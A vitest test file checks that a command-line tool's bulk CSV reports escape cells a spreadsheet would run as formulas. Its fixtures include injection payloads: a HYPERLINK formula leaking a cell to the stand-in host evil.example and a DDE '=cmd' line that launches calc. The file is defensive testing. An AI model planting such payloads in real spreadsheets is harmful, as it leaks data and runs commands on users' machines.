/** CSV reports neutralise cells that a spreadsheet would run as a formula (= + - @, tab, CR). */
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startEmulator } from '../../src/emulator/index.js';
import type { RunningEmulator } from '../../src/emulator/index.js';
import { runCli } from '../helpers/run-cli.js';
import { MARKED_KEY } from './helpers.js';

const HAS_BULK = existsSync(resolve('src/commands/bulk.ts'));
const SELFIE = resolve('fixtures/selfies/demo.jpg');
const DANGEROUS = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/;

/** A small RFC 4180 reader for the test's own use (quoted cells, "" escapes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

let dir: string;
let emulator: RunningEmulator;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'smile-csv-'));
  emulator = await startEmulator({ port: 0, apiKey: MARKED_KEY, processingMs: 30 });
});
afterAll(async () => {
  await emulator.close();
  await rm(dir, { recursive: true, force: true });
});

describe('spreadsheet injection in CSV reports', () => {
  it.skipIf(!HAS_BULK)('neutralises = + - @ cells in --report and --rejects CSV files', async () => {
    const csv = join(dir, 'rows.csv');
    const users = ['=HYPERLINK("http://evil.example/?"&A1;"click")', '+SUM(1;2)', '-2+3', '@cmd', '=1+1'];
    const lines = [
      'user_id,selfie,sandbox_result,param.note',
      `"${users[0]!.replace(/"/g, '""')}",${SELFIE},approve,=cmd|' /C calc'!A0`,
      `+SUM(1;2),${SELFIE},reject,@note`,
      `-2+3,${SELFIE},approve,-1`,
      `@cmd,=missing-selfie.jpg,,+note`,
      `=1+1,${SELFIE},reject,`,
    ];
    await writeFile(csv, `${lines.join('\n')}\n`);
    const report = join(dir, 'report.csv');
    const rejects = join(dir, 'rejects.csv');
    const run = await runCli(['bulk', csv, '--report', report, '--rejects', rejects, '--json'], {
      env: {
        SMILE_PARTNER_ID: '085',
        SMILE_API_KEY: MARKED_KEY,
        SMILE_BASE_URL: emulator.baseUrl,
        SMILE_CONFIG_DIR: join(dir, 'none'),
      },
    });
    expect([4, 6]).toContain(run.code);
    for (const file of [report, rejects]) {
      const rows = parseCsv(await readFile(file, 'utf8'));
      expect(rows.length, file).toBeGreaterThan(1);
      for (const cell of rows.flat()) {
        if (DANGEROUS.test(cell)) expect(PLAIN_NUMBER.test(cell), `${file}: ${JSON.stringify(cell)}`).toBe(true);
      }
    }
    // The user ids are still there, marked with a leading apostrophe.
    const reportText = await readFile(report, 'utf8');
    for (const user of users) expect(reportText).toContain(`'${user.replace(/"/g, '""')}`);
  });
});
